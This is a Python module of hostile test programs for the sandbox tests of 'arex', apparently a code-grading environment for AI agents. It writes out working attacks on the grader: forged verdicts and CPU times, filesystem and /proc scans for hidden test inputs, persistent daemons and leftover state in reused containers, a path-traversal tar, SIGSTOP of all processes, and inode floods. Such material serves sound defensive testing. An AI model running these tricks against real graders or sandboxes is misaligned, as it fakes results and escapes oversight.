"""Hostile programs for tests/sandbox/test_attacks.py: what an agent that knows arex's source would try.

Each is plain source text (a submission for the subset-fill judge env, or a script the scripted
teacher writes into its sandbox). They are data: nothing here runs on the host.
"""

import textwrap

from solutions import EXACT_PY

# What the runner writes on its result descriptor; a forger prints it everywhere it can.
FAKE_RESULT = "exit=0 signal=0 cpu_us=1 maxrss_kb=1 timed_out=0 killed=0 procs=1"
SAMPLE_INPUT = "4 10\n6 5 5 3\n"  # subset-fill's only sample

# An exact subset-sum solution in C++ (the env's own solutions/exact_dp.cpp carries its canary).
EXACT_CPP_BODY = textwrap.dedent(
    """
    static void solve() {
        int n, cap;
        if (scanf("%d %d", &n, &cap) != 2) return;
        std::vector<int> w(n);
        for (auto &x : w) scanf("%d", &x);
        std::vector<int> by(cap + 1, -1);
        by[0] = -2;
        for (int i = 0; i < n; ++i)
            for (int s = cap; s >= w[i]; --s)
                if (by[s] == -1 && by[s - w[i]] != -1 && by[s - w[i]] != i) by[s] = i;
        int best = cap;
        while (by[best] == -1) --best;
        std::vector<int> picked;
        for (int s = best; s > 0; s -= w[by[s]]) picked.push_back(by[s] + 1);
        printf("%zu\\n", picked.size());
        for (size_t i = 0; i < picked.size(); ++i) printf("%d%c", picked[i], i + 1 == picked.size() ? '\\n' : ' ');
        fflush(stdout);
    }
    """
)


# -- 2. forged CPU time and verdict --------------------------------------------------------------
def forger_py(burn_s: float) -> str:
    """Ignores SIGXCPU, writes a fake runner result on stderr and on every descriptor 3..30, burns
    `burn_s` seconds of CPU in its own process, then prints the correct answer (and exits 0)."""
    head = textwrap.dedent(
        f"""
        import os, signal, sys, time
        signal.signal(signal.SIGXCPU, signal.SIG_IGN)
        FAKE = b"{FAKE_RESULT}\\n"
        for fd in range(3, 31):
            try:
                os.write(fd, FAKE)
            except OSError:
                pass
        os.write(2, FAKE)
        start = time.process_time()
        while time.process_time() - start < {burn_s}:
            pass
        """
    )
    return head + EXACT_PY + "sys.stdout.flush()\nos.write(2, FAKE)\n"


def fanout_cpp(share_s: float) -> str:
    """Spreads its CPU over three processes, each under the per-process limit (a child, a
    double-forked orphan in its own session, and itself), ignores SIGXCPU, writes the fake result
    to every descriptor 3..30 and stderr, then prints the correct answer, then the fake result on
    stdout too."""
    return (
        "#include <bits/stdc++.h>\n#include <csignal>\n#include <ctime>\n#include <sys/wait.h>\n#include <unistd.h>\n"
        + EXACT_CPP_BODY
        + textwrap.dedent(
            f"""
            static const char FAKE[] = "{FAKE_RESULT}\\n";
            static double cpu() {{ timespec ts; clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts); return ts.tv_sec + ts.tv_nsec / 1e9; }}
            static void burn(double s) {{ double t = cpu(); volatile unsigned long x = 0; while (cpu() - t < s) x++; }}
            int main() {{
                signal(SIGXCPU, SIG_IGN);
                for (int fd = 3; fd <= 30; ++fd) if (write(fd, FAKE, sizeof FAKE - 1) < 0) {{}}
                if (write(2, FAKE, sizeof FAKE - 1) < 0) {{}}
                int done[2];
                if (pipe(done) != 0) return 1;
                pid_t child = fork();
                if (child == 0) {{ burn({share_s}); _exit(0); }}
                pid_t middle = fork();
                if (middle == 0) {{
                    setsid();
                    if (fork() == 0) {{ burn({share_s}); if (write(done[1], "x", 1) < 0) {{}} _exit(0); }}
                    _exit(0);
                }}
                close(done[1]);
                waitpid(middle, nullptr, 0);
                burn({share_s});
                waitpid(child, nullptr, 0);
                char c;
                if (read(done[0], &c, 1) < 0) {{}}
                solve();
                printf("%s", FAKE);
                return 0;
            }}
            """  # noqa: E501
        )
    )


# -- 3. state left in a reused grading container --------------------------------------------------
LEFTOVER_PY = textwrap.dedent(
    """
    import os, subprocess, sys, time
    TAG = "arex-leftover"
    places = ["/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/workspace"]
    for d in places:
        try:
            with open(os.path.join(d, TAG), "w") as f:
                f.write("written by an earlier grading\\n")
            os.makedirs(os.path.join(d, TAG + "-dir", "sub"), exist_ok=True)
            open(os.path.join(d, TAG + "-dir", "sub", "f"), "w").close()
            os.chmod(os.path.join(d, TAG + "-dir", "sub"), 0)  # hard to delete
            os.chmod(os.path.join(d, TAG + "-dir"), 0)
        except OSError as e:
            print("cannot write", d, e, file=sys.stderr)
    quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.run("setsid sleep 3600 &", shell=True, **quiet)
    subprocess.run("nohup sleep 3601 & disown", shell=True, **quiet)
    subprocess.run("sleep 3602 & kill -STOP $!", shell=True, **quiet)  # a stopped one
    subprocess.run("ipcmk -M 4096; ipcmk -Q", shell=True, **quiet)
    pid = os.fork()
    if pid == 0:  # double fork: a daemon in its own session that keeps re-creating a file
        os.setsid()
        if os.fork() == 0:
            for fd in (0, 1, 2):
                os.close(fd)
            while True:
                for d in places:
                    try:
                        open(os.path.join(d, TAG + "-daemon"), "w").close()
                    except OSError:
                        pass
                time.sleep(0.05)
        os._exit(0)
    os.waitpid(pid, 0)
    deadline = time.monotonic() + 30  # until the daemon has made its first file (polled, not slept)
    while not os.path.exists(os.path.join(places[0], TAG + "-daemon")) and time.monotonic() < deadline:
        time.sleep(0.01)
    mine = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid() and os.stat("/proc/" + p).st_uid == os.getuid()]
    files = sorted(n for d in places for n in os.listdir(d) if n.startswith(TAG))
    print(f"LEFTOVERS STARTED processes={len(mine)} files={len(files)}", file=sys.stderr)
    sys.exit(3)
    """  # noqa: E501
)

# Run right after LEFTOVER_PY in the same grading container: fails, saying why, if anything of it is left.
STATE_PROBE_PY = (
    textwrap.dedent(
        """
        import os, subprocess, sys
        found = []
        for p in os.listdir("/proc"):
            if p.isdigit() and int(p) != os.getpid():
                try:
                    if os.stat("/proc/" + p).st_uid == os.getuid():
                        found.append("process " + open(f"/proc/{p}/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
                except OSError:
                    pass
        allowed = {"solution.py", "run"}
        for d in ["/tmp", "/dev/shm", os.getcwd(), os.path.expanduser("~"), "/workspace"]:
            for name in os.listdir(d):
                if name not in allowed:
                    found.append(f"file {d}/{name}")
        ipc = subprocess.run(["ipcs", "-m", "-q"], capture_output=True, text=True).stdout
        if any(line[:2] == "0x" for line in ipc.splitlines()):
            found.append("ipc " + " | ".join(line for line in ipc.splitlines() if line[:2] == "0x"))
        if found:
            print("STALE STATE: " + "; ".join(found), file=sys.stderr)
            sys.exit(4)
        """  # noqa: E501
    )
    + EXACT_PY
)


# -- 4. hunting the hidden inputs -----------------------------------------------------------------
HUNTER_PY = textwrap.dedent(
    """
    import os, re, sys
    data = sys.stdin.read()
    if data.split() != "4 10 6 5 5 3".split():
        # A hidden test: its input is all this program may see; it tries to get it out anyway.
        sys.stderr.write("MY INPUT: " + data)
        print(data)
        sys.exit(int(data.split()[0]) % 2)  # some tests RE (stderr), some WA (the checker's message)
    looks_like_input = re.compile(rb"^\\d+ \\d+\\s*\\n(\\d+ ){5,}\\d+", re.M)
    found, read = [], 0

    def look(path):
        global read
        try:
            if os.path.getsize(path) > 4_000_000:
                return
            with open(path, "rb") as handle:
                blob = handle.read()
        except OSError:
            return
        read += 1
        if looks_like_input.search(blob) or path.endswith((".in", ".ans")):
            found.append(path + ": " + blob[:400].decode(errors="replace"))

    for root, dirs, files in os.walk("/"):  # names anywhere
        if root.startswith(("/proc", "/sys", "/dev")):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith((".in", ".ans", ".txt")) or "test" in name:
                look(os.path.join(root, name))
    for top in ["/judge", "/workspace", "/tmp", "/home", "/opt", "/srv", "/mnt", "/var", "/run", "/root", "/.arex", "/data", "/private", "/tests", "/dev/shm"]:
        for root, dirs, files in os.walk(top):  # contents where test data could be
            for name in files:
                look(os.path.join(root, name))
    for p in os.listdir("/proc"):
        if p.isdigit():
            for what in ("cmdline", "environ"):
                look(f"/proc/{p}/{what}")
            try:
                for fd in os.listdir(f"/proc/{p}/fd"):
                    look(f"/proc/{p}/fd/{fd}")
            except OSError:
                pass
    sys.stderr.write("\\n".join(found)[-400:] + f"\\nHUNT DONE read={read} found={len(found)}\\n")
    sys.exit(1)
    """  # noqa: E501
)


def includer_cpp(names: list[str]) -> str:
    """Includes whichever candidate path of a hidden input exists at compile time, so the
    compiler's error quotes it; #error if none does."""
    roots = [
        "/judge/private/tests",
        "/judge/tests",
        "/private/tests",
        "/tests",
        "/workspace/tests",
        "/workspace/private/tests",
        "/workspace/run/tests",
        "/tmp/tests",
        "/home/arex/tests",
        "/opt/arex/tests",
        "/data/tests",
        "tests",
        "../tests",
        "../private/tests",
    ]
    lines, found = [], []
    for root in roots:
        for name in names:
            path = f"{root}/{name}"
            lines += [f'#if __has_include("{path}")', f'#include "{path}"', "#define FOUND_ONE 1", "#endif"]
            found.append(path)
    lines += ["#ifndef FOUND_ONE", '#error "includer: no hidden input found"', "#endif", "int main() { return 0; }"]
    return "\n".join(lines) + "\n"


# -- 1. host writes through the snapshot ----------------------------------------------------------
def crafted_tar_py(host_file: str, host_dir: str) -> str:
    """A script that writes `evil.tar` into the workspace: absolute and `..` names aimed at the
    host, a symlink to a host folder followed by a member "through" it (CVE-2025-4517 family)."""
    return textwrap.dedent(
        f"""
        import io, tarfile
        def add(tar, name, data=b"pwned\\n", **kw):
            info = tarfile.TarInfo(name)
            for key, value in kw.items():
                setattr(info, key, value)
            if info.isreg():
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
        with tarfile.open("evil.tar", "w", format=tarfile.GNU_FORMAT) as tar:
            add(tar, "{host_file}.abs")
            add(tar, "../../../../../../../../..{host_file}.dotdot")
            add(tar, "escape", type=tarfile.SYMTYPE, linkname="{host_dir}")
            add(tar, "escape/through-link.txt")
            add(tar, "hard", type=tarfile.LNKTYPE, linkname="{host_file}")
        print("evil.tar written")
        """
    )


STOP_EVERYTHING_PY = textwrap.dedent(
    """
    import os, signal
    def parent(pid):
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    spare, pid = {os.getpid()}, os.getppid()
    while pid > 1 and os.stat(f"/proc/{pid}").st_uid == os.getuid():  # its own shell only
        spare.add(pid)
        pid = parent(pid)
    result = {}
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) not in spare:
            try:
                os.kill(int(p), signal.SIGSTOP)
                result[p] = "stopped"
            except OSError as e:
                result[p] = e.strerror
    print("SIGSTOP", result)
    """
)

INODE_FLOOD_PY = textwrap.dedent(
    """
    import os, shutil
    os.makedirs("many", exist_ok=True)
    made = 0
    try:
        for i in range(300_000):
            open(f"many/{i}", "w").close()
            made += 1
    except OSError as e:
        print("flood stopped:", e)
    print("made", made)
    shutil.rmtree("many")
    """
)

LONG_PATH_PY = textwrap.dedent(
    """
    import os
    depth = 0
    for i in range(25):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
        depth += 201
    open("deep.txt", "w").write("deep")
    print("path length", depth)
    """
)

# Every run appends its stdin to a file in each writable place, then prints what the files hold to
# stderr and fails: a run whose stderr is shown (a sample's) shows what every earlier run of the
# same grading read. It beat an arex that ran the hidden tests before the samples in one container.
STASH_PY = textwrap.dedent(
    """
    import os, sys
    data = sys.stdin.read()
    places = ["/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()]
    for d in places:
        try:
            with open(os.path.join(d, ".stash"), "a") as f:
                f.write(" ".join(data.split()) + "\\n")
        except OSError:
            pass
    seen = []
    for d in places:
        try:
            seen += open(os.path.join(d, ".stash")).read().splitlines()
        except OSError:
            pass
    # the hidden lines at the end: the sample's stderr is cut to its tail
    sys.stderr.write("STASH runs=%d %s" % (len(seen) // len(places), " | ".join(seen[-3:])))
    sys.exit(1)
    """
)


# Leaves what the cleaning between gradings used to keep: its own mount roots made read-only
# (files under them out of the cleaner's reach, and the next grading unable to write its source),
# an extended attribute on each root, and ~`MB` MB of tmpfs pages that count against the next
# grading's memory limit.
def sealer_py(megabytes: int) -> str:
    return textwrap.dedent(
        f"""
        import os, sys
        places = ["/tmp", os.path.expanduser("~"), "/workspace"]  # the mount roots (cwd is a folder below)
        done = []
        for i, d in enumerate(places):
            try:
                os.makedirs(os.path.join(d, "notes", "deep"), exist_ok=True)
                with open(os.path.join(d, "notes", "note.txt"), "w") as f:
                    f.write("a note for the next grading\\n")
                with open(os.path.join(d, "ballast.bin"), "wb") as f:
                    for _ in range({megabytes} // len(places)):  # 1 MB at a time: the pages are the point
                        f.write(b"x" * (1 << 20))
                for name in ("notes/note.txt", "ballast.bin"):
                    os.chmod(os.path.join(d, name), 0o444)
                os.chmod(os.path.join(d, "notes", "deep"), 0o555)
                os.chmod(os.path.join(d, "notes"), 0o555)
                os.setxattr(d, "user.arex-note", b"left by an earlier grading")
                os.chmod(d, 0o555)
                done.append(d)
            except OSError as e:
                print("cannot seal", d, e, file=sys.stderr)
        run = os.getcwd()  # the grading's own folder below the workdir root, sealed too
        for name in os.listdir(run):
            os.chmod(os.path.join(run, name), 0o444)
        os.chmod(run, 0o555)
        print("SEALED " + " ".join(done), file=sys.stderr)
        sys.exit(2)
        """
    )


# Run right after the sealer in the same container: fails, saying what, if anything of it is left.
SEAL_PROBE_PY = (
    textwrap.dedent(
        """
        import os, stat, sys
        found = []
        for d in ["/tmp", os.path.expanduser("~"), "/workspace"]:
            st = os.stat(d)
            if stat.S_IMODE(st.st_mode) & 0o200 == 0:
                found.append(d + " mode " + oct(st.st_mode))
            names = [n for n in os.listdir(d) if n != "run"]
            if names:
                found.append(d + " holds " + ",".join(names))
            if os.listxattr(d):
                found.append(d + " xattrs " + ",".join(os.listxattr(d)))
        if found:
            print("LEFT: " + "; ".join(found), file=sys.stderr)
            sys.exit(1)
        """
    )
    + EXACT_PY
)
